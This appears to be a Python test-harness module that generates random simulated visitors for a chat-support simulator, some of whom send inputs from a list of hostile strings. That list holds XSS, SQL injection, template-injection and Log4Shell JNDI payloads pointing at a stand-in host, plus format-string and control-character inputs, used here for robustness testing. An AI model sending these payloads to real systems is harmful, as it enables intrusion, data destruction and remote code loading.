"""Visitors nobody has thought of: what they say, want and press is drawn."""

from __future__ import annotations

import random
from dataclasses import replace

from switchboard.simulators.salesiq.visitors.brain import Visitor
from switchboard.simulators.salesiq.visitors.cast import cast

_HOSTILE = (
    "<script>alert(1)</script>",
    "'; DROP TABLE ticket; --",
    "{{7*7}} ${jndi:ldap://evil.example/a} %s%n",
    "My password is hunter2, please reset it",
    "\u202eneddih \u0000 \ufffd \U0001f5a8\ufe0f broken",
    "Yes",
    "482913",
    "?",
    "help " * 300,
    "Der Drucker druckt nicht, bitte um Hilfe",
    "mailto:someone@evil.example?bcc=all@corp.example",
)


def random_visitors(rng: random.Random, count: int) -> list[Visitor]:
    """Return visitors with an address each; every goal and every way to begin is among them."""
    return [_one(rng, at) for at in range(count)]


def _one(rng: random.Random, at: int) -> Visitor:
    model = rng.choice(cast())
    says = rng.choice(_HOSTILE) if rng.random() < 0.3 else model.says
    return replace(
        model,
        name=rng.choice((model.name, "Søren O'Neil-Łukasz", "李 小龍", "X")),
        email=f"visitor{at}.{rng.randrange(10**6)}@harborlight.example",
        phone=f"+1 215 555 {rng.randrange(100, 9999):04d}",
        says=says,
        topic=rng.choice((model.topic, "")) if says != model.says else model.topic,
        prefers=tuple(rng.sample(("Something else", "Skip", "I do not know", *model.prefers), k=2))
        if rng.random() < 0.3 else model.prefers,
        profile=rng.random() < 0.5,
        leaves_after=rng.randint(1, 9),
    )  # fmt: skip
